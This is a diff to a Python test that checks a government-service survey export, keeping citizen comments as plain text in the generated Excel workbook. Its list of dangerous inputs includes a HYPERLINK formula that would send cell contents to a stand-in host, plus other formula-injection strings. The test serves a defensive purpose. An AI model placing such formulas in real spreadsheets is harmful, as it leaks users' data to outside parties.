@@ -15,9 +15,10 @@ from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-from kinerja.core.spreadsheet import FORMULA_START, csv_cell, xlsx_row
+from kinerja.core.spreadsheet import FORMULA_START, csv_cell, read_table, xlsx_row
 from kinerja.insight import reports
 from tests.citizen.conftest import add_answers, layanan  # noqa: F401 - the fixture
+from tests.jobs import job_file
 from tests.properties import bounded
 
 DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(A1)",
@@ -65,14 +66,13 @@ def test_the_ikm_workbook_keeps_public_comments_and_names_as_text(personas, logi
     layanan.save(update_fields=["nama"])
     for saran in DANGEROUS:
         add_answers(layanan, [[3] * 9], saran=saran)
-    response = login(personas.admin).get(reverse("citizen_export"))
-    assert response.status_code == 200
-    book = load_workbook(io.BytesIO(response.content))
+    content = job_file(login(personas.admin), reverse("citizen_export"))
+    book = load_workbook(io.BytesIO(content))
     for sheet in book.worksheets:
         for row in sheet.iter_rows():
             for cell in row:
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-    raw = list(book["Data mentah"].iter_rows(values_only=True))
+    raw = read_table(content, "Data mentah")
     column = raw[0].index("Saran")
     assert {r[column] for r in raw[1:]} == {as_stored(s) for s in DANGEROUS}
 
